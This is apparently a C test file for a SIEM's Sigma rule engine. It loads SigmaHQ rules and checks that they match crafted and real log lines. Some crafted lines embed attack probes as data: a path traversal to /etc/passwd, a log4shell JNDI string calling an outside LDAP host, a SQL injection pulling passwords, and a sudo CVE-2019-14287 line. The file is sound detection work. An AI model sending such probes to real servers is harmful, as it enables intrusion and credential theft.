/*
 * The Sigma engine over real rules: the SigmaHQ Linux and web set
 * (rules/, rules-emerging-threats/, rules-threat-hunting/) must load
 * at 95% or better, every other rule with a specific reason; the
 * deprecated/ and unsupported/ folders load or are refused with a
 * reason; the specification's examples behave as the specification
 * says; and loaded rules match real and crafted log lines normalized
 * by siemd's own parser.  The corpus is read at run time from
 * ../shared/corpus (or $SIEMD_CORPUS); without it the test skips.
 */

#include <sys/stat.h>

#include <dirent.h>
#include <time.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <jansson.h>

#include "normalize.h"
#include "sigma.h"
#include "test.h"

#define SC_PATH_MAX	1024
#define SC_MAX_FILES	4096
#define SC_MAX_DEPTH	8
#define SC_TOP		12	/* skip reasons printed */
#define SC_NOW		1136073600000000LL

struct reason_count {
	char		 reason[SIGMA_REASON_LEN + 16];
	int		 n;
};

struct hits {
	const char	*want;		/* rule id that must be among them */
	int		 found;
	int		 n;
};

static const char	*corpus;
static uint64_t		 match_ns;	/* time in sigma_match() */
static uint64_t		 match_events;

static char	*slurp(const char *, size_t *);
static int	 walk(const char *, char **, int *, int);
static int	 cmpstr(const void *, const void *);
static int	 load_dir(struct sigma_set *, const char *);
static void	 tally(struct sigma_set *, const char *, int *, int *, int *);
static void	 test_main_set(void);
static void	 test_side_folders(void);
static void	 test_spec_schema(void);
static void	 test_spec_examples(void);
static void	 test_real_matches(struct sigma_set *);
static void	 on_hit(const struct sigma_rule *, void *);
static int	 match_line(struct sigma_set *, const char *, const char *,
		    enum tail_format, const char *);

static char *
slurp(const char *path, size_t *len)
{
	FILE	*fp;
	char	*buf;
	long	 n;

	if ((fp = fopen(path, "r")) == NULL)
		return (NULL);
	if (fseek(fp, 0, SEEK_END) == -1 || (n = ftell(fp)) < 0 ||
	    fseek(fp, 0, SEEK_SET) == -1 || (buf = malloc(n + 1)) == NULL) {
		fclose(fp);
		return (NULL);
	}
	*len = fread(buf, 1, n, fp);
	buf[*len] = '\0';
	fclose(fp);
	return (buf);
}

static int
cmpstr(const void *a, const void *b)
{
	return (strcmp(*(char *const *)a, *(char *const *)b));
}

/* Every *.yml under dir into files[]. */
static int
walk(const char *dir, char **files, int *n, int depth)
{
	DIR		*d;
	struct dirent	*de;
	struct stat	 st;
	char		 path[SC_PATH_MAX];
	size_t		 l;

	if (depth > SC_MAX_DEPTH || (d = opendir(dir)) == NULL)
		return (-1);
	while ((de = readdir(d)) != NULL) {
		if (de->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		if (stat(path, &st) == -1)
			continue;
		if (S_ISDIR(st.st_mode)) {
			walk(path, files, n, depth + 1);
			continue;
		}
		l = strlen(de->d_name);
		if (l > 4 && strcmp(de->d_name + l - 4, ".yml") == 0 &&
		    *n < SC_MAX_FILES)
			files[(*n)++] = strdup(path);
	}
	closedir(d);
	return (0);
}

static int
load_dir(struct sigma_set *set, const char *rel)
{
	char	 dir[SC_PATH_MAX], *files[SC_MAX_FILES], *buf;
	size_t	 len;
	int	 n = 0, i;

	snprintf(dir, sizeof(dir), "%s/%s", corpus, rel);
	if (walk(dir, files, &n, 0) == -1)
		return (-1);
	qsort(files, n, sizeof(files[0]), cmpstr);
	for (i = 0; i < n; i++) {
		if ((buf = slurp(files[i], &len)) != NULL) {
			/* the name as it is in the corpus, no local path */
			sigma_set_add_file(set, files[i] + strlen(corpus) + 1,
			    buf, len);
			free(buf);
		}
		free(files[i]);
	}
	return (n);
}

static int
cmpcount(const void *a, const void *b)
{
	const struct reason_count	*x = a, *y = b;

	return (y->n - x->n);
}

/* Counts of a set, with its reasons, printed under label. */
static void
tally(struct sigma_set *set, const char *label, int *loaded, int *skipped,
    int *invalid)
{
	static struct reason_count	 rc[SC_MAX_FILES];
	struct sigma_rule		*r;
	size_t				 i;
	int				 j, nrc = 0;

	*loaded = *skipped = *invalid = 0;
	for (i = 0; (r = sigma_set_rule(set, i)) != NULL; i++) {
		if (r->state == SIGMA_LOADED) {
			(*loaded)++;
			continue;
		}
		if (r->state == SIGMA_SKIPPED)
			(*skipped)++;
		else
			(*invalid)++;
		for (j = 0; j < nrc; j++)
			if (strcmp(rc[j].reason, r->reason) == 0)
				break;
		if (j == nrc && nrc < SC_MAX_FILES) {
			snprintf(rc[nrc].reason, sizeof(rc[nrc].reason),
			    "%s: %s", sigma_state_name(r->state), r->reason);
			rc[nrc].n = 0;
			for (j = 0; j < nrc; j++)
				if (strcmp(rc[j].reason, rc[nrc].reason) == 0)
					break;
			if (j == nrc)
				nrc++;
		}
		if (j < nrc)
			rc[j].n++;
	}
	qsort(rc, nrc, sizeof(rc[0]), cmpcount);
	printf("# %s: %zu rules: %d loaded, %d skipped, %d invalid\n", label,
	    sigma_set_count(set), *loaded, *skipped, *invalid);
	for (j = 0; j < nrc && j < SC_TOP; j++)
		printf("#   %3d  %s\n", rc[j].n, rc[j].reason);
}

static int
loaded_rules(struct sigma_set *set)
{
	struct sigma_rule	*r;
	size_t			 i;
	int			 n = 0;

	for (i = 0; (r = sigma_set_rule(set, i)) != NULL; i++)
		n += r->state == SIGMA_LOADED;
	return (n);
}

static void
on_hit(const struct sigma_rule *r, void *arg)
{
	struct hits	*h = arg;

	h->n++;
	if (h->want != NULL && r->id != NULL && strcmp(r->id, h->want) == 0)
		h->found = 1;
}

/* Normalize one line as the parser process would; 1 if want hit. */
static int
match_line(struct sigma_set *set, const char *line, const char *app,
    enum tail_format fmt, const char *want)
{
	struct record_hint	 hint;
	struct siem_event	 ev;
	struct sigma_event	 se;
	struct hits		 h;
	struct timespec		 t0, t1;

	memset(&hint, 0, sizeof(hint));
	hint.format = fmt;
	hint.source_type = "file";
	hint.app = app;
	hint.source_offset = -1;
	hint.received_at = SC_NOW;
	hint.now = SC_NOW;
	event_init(&ev);
	normalize_record(&ev, line, strlen(line), &hint);
	memset(&h, 0, sizeof(h));
	h.want = want;
	sigma_event_from_event(&se, &ev);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	sigma_match(set, &se, on_hit, &h);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	match_ns += (t1.tv_sec - t0.tv_sec) * 1000000000ULL + t1.tv_nsec -
	    t0.tv_nsec;
	match_events++;
	sigma_event_done(&se);
	event_clear(&ev);
	return (want == NULL ? h.n : h.found);
}

static void
test_main_set(void)
{
	struct sigma_map	*map;
	struct sigma_set	*set;
	struct sigma_rule	*r;
	size_t			 i;
	int			 loaded, skipped, invalid, n = 0, noreason = 0;
	char			 err[SIGMA_REASON_LEN];

	TEST_BEGIN("corpus-main-set");
	map = sigma_map_load(NULL, err, sizeof(err));
	set = sigma_set_new(map);
	n += load_dir(set, "sigma/rules");
	n += load_dir(set, "sigma/rules-emerging-threats");
	n += load_dir(set, "sigma/rules-threat-hunting");
	sigma_set_compile(set);
	tally(set, "main set", &loaded, &skipped, &invalid);
	CHECK_INT(n, 393);
	CHECK_INT(sigma_set_count(set), 393);
	for (i = 0; (r = sigma_set_rule(set, i)) != NULL; i++) {
		if (r->state != SIGMA_LOADED && r->reason[0] == '\0')
			noreason++;
		if (r->state == SIGMA_LOADED && (r->title == NULL ||
		    r->det == NULL))
			noreason++;
	}
	CHECK_INT(noreason, 0);
	if (loaded * 100 < 95 * (int)sigma_set_count(set))
		printf("FAIL corpus-main-set: %d of %zu loaded, under 95%%\n",
		    loaded, sigma_set_count(set));
	CHECK(loaded * 100 >= 95 * (int)sigma_set_count(set));
	TEST_END();

	test_real_matches(set);
	sigma_set_free(set);
	sigma_map_free(map);
}

static void
test_side_folders(void)
{
	struct sigma_map	*map;
	struct sigma_set	*set;
	struct sigma_rule	*r;
	size_t			 i;
	int			 loaded, skipped, invalid, v1 = 0, bad = 0;
	char			 err[SIGMA_REASON_LEN];

	TEST_BEGIN("corpus-deprecated-unsupported");
	map = sigma_map_load(NULL, err, sizeof(err));
	set = sigma_set_new(map);
	load_dir(set, "sigma/deprecated");
	sigma_set_compile(set);
	tally(set, "deprecated", &loaded, &skipped, &invalid);
	CHECK_INT(sigma_set_count(set), 10);
	for (i = 0; (r = sigma_set_rule(set, i)) != NULL; i++)
		if (r->state != SIGMA_LOADED && r->reason[0] == '\0')
			bad++;
	sigma_set_free(set);

	set = sigma_set_new(map);
	load_dir(set, "sigma/unsupported");
	sigma_set_compile(set);
	tally(set, "unsupported", &loaded, &skipped, &invalid);
	CHECK_INT(sigma_set_count(set), 8);
	for (i = 0; (r = sigma_set_rule(set, i)) != NULL; i++) {
		if (r->state != SIGMA_LOADED && r->reason[0] == '\0')
			bad++;
		if (strstr(r->reason, "v1 aggregation (count/near) is not "
		    "supported; use a correlation rule") != NULL)
			v1++;
	}
	/* the seven rules with "| count() by" or "near" */
	CHECK_INT(v1, 7);
	CHECK_INT(bad, 0);
	sigma_set_free(set);
	sigma_map_free(map);
	TEST_END();
}

/* sigma-spec/tests/schema: all valid; none may be rejected. */
static void
test_spec_schema(void)
{
	static const struct {
		const char		*file;
		enum sigma_corr_type	 type;
		size_t			 ngroup;
		int64_t			 timespan;
	} corr[] = {
		{ "event_count.yml", SIGMA_CORR_EVENT_COUNT, 1, 3600 },
		{ "event_count_ecs.yml", SIGMA_CORR_EVENT_COUNT, 1, 3600 },
		{ "value_count.yml", SIGMA_CORR_VALUE_COUNT, 2, 86400 },
		{ "temporal.yml", SIGMA_CORR_TEMPORAL, 2, 300 },
		{ "temporal_ordered.yml", SIGMA_CORR_TEMPORAL_ORDERED, 2, 300 },
		{ "value_sum.yml", SIGMA_CORR_VALUE_SUM, 2, 3600 },
		{ "value_avg.yml", SIGMA_CORR_VALUE_AVG, 2, 86400 },
		{ "value_percentile.yml", SIGMA_CORR_VALUE_PERCENTILE, 1,
		    86400 },
	};
	static const char	*plain[] = { "rules/rule_1.yml",
	    "rules/rule_ecs.yml", "filter/filter_1.yml",
	    "filter/filter_ecs.yml" };
	struct sigma_map	*map;
	struct sigma_set	*set;
	struct sigma_rule	*r, *c;
	char			 path[SC_PATH_MAX], err[SIGMA_REASON_LEN];
	char			 stub[512], *buf;
	size_t			 len, i, j;

	map = sigma_map_load(NULL, err, sizeof(err));
	TEST_BEGIN("spec-schema-rules-and-filters");
	for (i = 0; i < sizeof(plain) / sizeof(plain[0]); i++) {
		snprintf(path, sizeof(path), "%s/sigma-spec/tests/schema/%s",
		    corpus, plain[i]);
		set = sigma_set_new(map);
		CHECK((buf = slurp(path, &len)) != NULL);
		if (buf == NULL) {
			sigma_set_free(set);
			continue;
		}
		CHECK_INT(sigma_set_add_file(set, plain[i], buf, len), 1);
		free(buf);
		sigma_set_compile(set);
		r = sigma_set_rule(set, 0);
		/* valid Sigma; windows and ECS logsources are not ours */
		CHECK(r->state != SIGMA_INVALID);
		if (r->state == SIGMA_INVALID)
			printf("# %s: %s\n", plain[i], r->reason);
		CHECK(strstr(r->reason, "not mapped") != NULL);
		sigma_set_free(set);
	}
	TEST_END();

	TEST_BEGIN("spec-schema-correlations");
	for (i = 0; i < sizeof(corr) / sizeof(corr[0]); i++) {
		snprintf(path, sizeof(path),
		    "%s/sigma-spec/tests/schema/correlation/%s", corpus,
		    corr[i].file);
		if ((buf = slurp(path, &len)) == NULL) {
			CHECK(buf != NULL);
			continue;
		}
		set = sigma_set_new(map);
		CHECK_INT(sigma_set_add_file(set, corr[i].file, buf, len), 1);
		sigma_set_compile(set);
		c = sigma_set_rule(set, 0);
		CHECK(c->kind == SIGMA_CORRELATION);
		CHECK(c->corr != NULL);
		if (c->corr == NULL) {
			free(buf);
			sigma_set_free(set);
			continue;
		}
		CHECK_INT(c->corr->type, corr[i].type);
		CHECK_INT(c->corr->ngroup_by, corr[i].ngroup);
		CHECK_INT(c->corr->timespan, corr[i].timespan);
		/* alone, the rules it names are unknown */
		CHECK_INT(c->state, SIGMA_INVALID);
		CHECK(strstr(c->reason, "references unknown rule") != NULL);
		sigma_set_free(set);

		/* with them, it loads */
		set = sigma_set_new(map);
		sigma_set_add_file(set, corr[i].file, buf, len);
		c = sigma_set_rule(set, 0);
		for (j = 0; j < c->corr->nrules; j++) {
			snprintf(stub, sizeof(stub), "title: stub\n"
			    "%s: %s\nlogsource:\n    service: sshd\n"
			    "detection:\n    k:\n        - 'x'\n"
			    "    condition: k\n",
			    strchr(c->corr->rules[j], '-') != NULL ? "id" :
			    "name", c->corr->rules[j]);
			sigma_set_add_file(set, "stub", stub, strlen(stub));
		}
		sigma_set_compile(set);
		CHECK_INT(c->state, SIGMA_LOADED);
		if (c->state != SIGMA_LOADED)
			printf("# %s: %s\n", corr[i].file, c->reason);
		/* generate is false by default: they only feed it */
		for (j = 0; j < c->corr->nrules; j++)
			CHECK(c->corr->refs[j] != NULL &&
			    c->corr->refs[j]->standalone == 0);
		free(buf);
		sigma_set_free(set);
	}
	TEST_END();
	sigma_map_free(map);
}

/*
 * The specification's own examples (extracted_examples): complete
 * documents as they are, detection fragments inside a minimal rule
 * over a logsource that maps every field.  Example 13 is the one the
 * specification calls invalid (null in a list of values).
 */
static void
test_spec_examples(void)
{
	static const char	 testmap[] =
	    "logsources:\n"
	    "    - name: spec\n"
	    "      product: spec\n"
	    "      fields:\n"
	    "          '*': data.*\n";
	static const char	*invalid[] = { "sigma-rules_example13.yml",
	    NULL };
	struct sigma_map	*map;
	struct sigma_set	*set;
	struct sigma_rule	*r;
	char			 dir[SC_PATH_MAX], path[SC_PATH_MAX];
	char			 err[SIGMA_REASON_LEN], *buf, *doc;
	char			*files[SC_MAX_FILES];
	size_t			 len, i;
	int			 n = 0, k, bad, frag = 0, nfiles = 0, isbad;

	TEST_BEGIN("spec-examples");
	CHECK((map = sigma_map_load_buf(testmap, strlen(testmap), err,
	    sizeof(err))) != NULL);
	snprintf(dir, sizeof(dir), "%s/sigma-spec/extracted_examples",
	    corpus);
	walk(dir, files, &nfiles, 0);
	qsort(files, nfiles, sizeof(files[0]), cmpstr);
	for (k = 0; k < nfiles; k++) {
		snprintf(path, sizeof(path), "%s", files[k]);
		free(files[k]);
		if ((buf = slurp(path, &len)) == NULL)
			continue;
		isbad = 0;
		for (i = 0; invalid[i] != NULL; i++)
			if (strstr(path, invalid[i]) != NULL)
				isbad = 1;
		set = sigma_set_new(map);
		if (strncmp(buf, "detection:", 10) == 0) {
			/* a fragment: give it a title and a logsource */
			if (asprintf(&doc, "title: example\nlogsource:\n"
			    "    product: spec\n%s%s", buf,
			    strstr(buf, "condition:") == NULL ?
			    "    condition: 1 of them\n" : "") == -1)
				exit(1);
			sigma_set_add_file(set, path, doc, strlen(doc));
			free(doc);
			sigma_set_compile(set);
			r = sigma_set_rule(set, 0);
			frag++;
			if (isbad) {
				CHECK_INT(r->state, SIGMA_INVALID);
				CHECK(strstr(r->reason, "null cannot be part "
				    "of a list") != NULL);
			} else {
				CHECK_INT(r->state, SIGMA_LOADED);
				if (r->state != SIGMA_LOADED)
					printf("# %s: %s\n", path, r->reason);
			}
		} else if (strncmp(buf, "title:", 6) == 0) {
			/* complete documents: valid, maybe not runnable */
			sigma_set_add_file(set, path, buf, len);
			sigma_set_compile(set);
			for (i = 0, bad = 0; (r = sigma_set_rule(set, i)) !=
			    NULL; i++) {
				if (r->state != SIGMA_INVALID)
					continue;
				/* correlations alone name absent rules */
				if (r->kind == SIGMA_CORRELATION &&
				    strstr(r->reason, "unknown rule") != NULL)
					continue;
				/* headers shown without their body */
				if (strstr(r->reason, "missing") != NULL)
					continue;
				bad++;
				printf("# %s: %s\n", path, r->reason);
			}
			CHECK_INT(bad, 0);
			n++;
		}
		free(buf);
		sigma_set_free(set);
	}
	CHECK(frag >= 8);
	CHECK(n >= 8);
	sigma_map_free(map);
	TEST_END();
}

static void
test_real_matches(struct sigma_set *set)
{
	char		 path[SC_PATH_MAX], *buf, *p, *nl;
	size_t		 len;
	int		 lines = 0, hits = 0;

	TEST_BEGIN("corpus-sshd-keywords-crafted");
	/* OpenSSH_2k.log's format, with messages the sshd rules name */
	CHECK(match_line(set, "Dec 10 06:55:46 LabSZ sshd[24200]: error: "
	    "buffer_get_ret: trying to get more bytes 1907 than in buffer "
	    "308 [preauth]", NULL, FORMAT_SYSLOG,
	    "4c9d903d-4939-4094-ade0-3cb748f4d7da"));
	CHECK(match_line(set, "Dec 10 07:02:47 LabSZ sshd[24206]: "
	    "Corrupted MAC on input. [preauth]", NULL, FORMAT_SYSLOG,
	    "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc"));
	CHECK(match_line(set, "Dec 10 07:02:47 LabSZ sshd[24206]: fatal: "
	    "Local: crc32 compensation attack: network attack detected",
	    NULL, FORMAT_SYSLOG, "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc"));
	/* the same text from another program is not sshd's */
	CHECK(!match_line(set, "Dec 10 07:02:47 LabSZ cron[24206]: "
	    "Corrupted MAC on input.", NULL, FORMAT_SYSLOG,
	    "e76b413a-83d0-4b94-8e4c-85db4a5b8bdc"));
	TEST_END();

	TEST_BEGIN("corpus-openssh-2k-no-false-alarm");
	snprintf(path, sizeof(path), "%s/loghub/OpenSSH/OpenSSH_2k.log",
	    corpus);
	if ((buf = slurp(path, &len)) != NULL) {
		for (p = buf; *p != '\0'; p = nl + 1) {
			if ((nl = strchr(p, '\n')) == NULL)
				nl = p + strlen(p);
			*nl = '\0';
			lines++;
			/* none of these 2000 lines is one the rules name */
			hits += match_line(set, p, NULL, FORMAT_SYSLOG, NULL);
			if (nl == buf + len)
				break;
		}
		free(buf);
	}
	CHECK_INT(lines, 2000);
	CHECK_INT(hits, 0);
	printf("# OpenSSH_2k.log: %d lines, %d hits, %.2f us per event in "
	    "sigma_match with %d rules\n", lines, hits, match_events ?
	    match_ns / 1000.0 / match_events : 0.0, loaded_rules(set));
	TEST_END();

	TEST_BEGIN("corpus-nginx-access-real");
	snprintf(path, sizeof(path), "%s/elastic-beats/nginx_access_test.log",
	    corpus);
	lines = hits = 0;
	if ((buf = slurp(path, &len)) != NULL) {
		for (p = buf; *p != '\0'; p = nl + 1) {
			if ((nl = strchr(p, '\n')) == NULL)
				nl = p + strlen(p);
			*nl = '\0';
			if (*p != '\0') {
				lines++;
				hits += match_line(set, p, NULL,
				    FORMAT_ACCESS, NULL);
			}
			if (nl == buf + len)
				break;
		}
		free(buf);
	}
	CHECK(lines > 0);
	/* ordinary browsing: no web rule fires */
	CHECK_INT(hits, 0);
	printf("# nginx_access_test.log: %d lines, %d hits\n", lines, hits);
	TEST_END();

	TEST_BEGIN("corpus-sudo-cve-2019-14287");
	CHECK(match_line(set, "Feb 21 21:54:44 localhost sudo:    bob : "
	    "TTY=pts/0 ; PWD=/home/bob ; USER=#-1 ; COMMAND=/usr/bin/id",
	    NULL, FORMAT_SYSLOG, "7fcc54cb-f27d-4684-84b7-436af096f858"));
	CHECK(!match_line(set, "Feb 21 21:54:44 localhost sudo:    bob : "
	    "TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/id",
	    NULL, FORMAT_SYSLOG, "7fcc54cb-f27d-4684-84b7-436af096f858"));
	TEST_END();

	TEST_BEGIN("corpus-webserver-probes");
	/* path traversal in the query string */
	CHECK(match_line(set, "203.0.113.9 - - [07/Dec/2016:11:05:07 +0100] "
	    "\"GET /index.php?file=../../../../etc/passwd HTTP/1.1\" 200 "
	    "571 \"-\" \"curl/7.68.0\"", NULL, FORMAT_ACCESS, NULL) > 0);
	/* log4shell in the User-Agent header */
	CHECK(match_line(set, "203.0.113.9 - - [07/Dec/2016:11:05:07 +0100] "
	    "\"GET / HTTP/1.1\" 200 571 \"-\" "
	    "\"${jndi:ldap://203.0.113.9:1389/a}\"", NULL, FORMAT_ACCESS,
	    NULL) > 0);
	/* SQL injection probe */
	CHECK(match_line(set, "203.0.113.9 - - [07/Dec/2016:11:05:07 +0100] "
	    "\"GET /item.php?id=1%20UNION%20SELECT%20password%20FROM%20users"
	    " HTTP/1.1\" 200 571 \"-\" \"sqlmap/1.5\"", NULL, FORMAT_ACCESS,
	    NULL) > 0);
	/* an ordinary request matches nothing */
	CHECK_INT(match_line(set, "10.0.0.2 - - [07/Dec/2016:11:05:07 +0100] "
	    "\"GET /ocelot HTTP/1.1\" 200 571 \"-\" \"Mozilla/5.0 (Macintosh;"
	    " Intel Mac OS X 10.12; rv:49.0) Gecko/20100101 Firefox/49.0\"",
	    NULL, FORMAT_ACCESS, NULL), 0);
	TEST_END();
}

int
main(void)
{
	struct stat	 st;
	char		 path[SC_PATH_MAX];

	if ((corpus = getenv("SIEMD_CORPUS")) == NULL)
		corpus = "../shared/corpus";
	snprintf(path, sizeof(path), "%s/sigma/rules", corpus);
	if (stat(path, &st) == -1) {
		printf("SKIP test-sigma-corpus: corpus not found\n");
		return (0);
	}
	test_main_set();
	test_side_folders();
	test_spec_schema();
	test_spec_examples();
	TEST_EXIT();
}
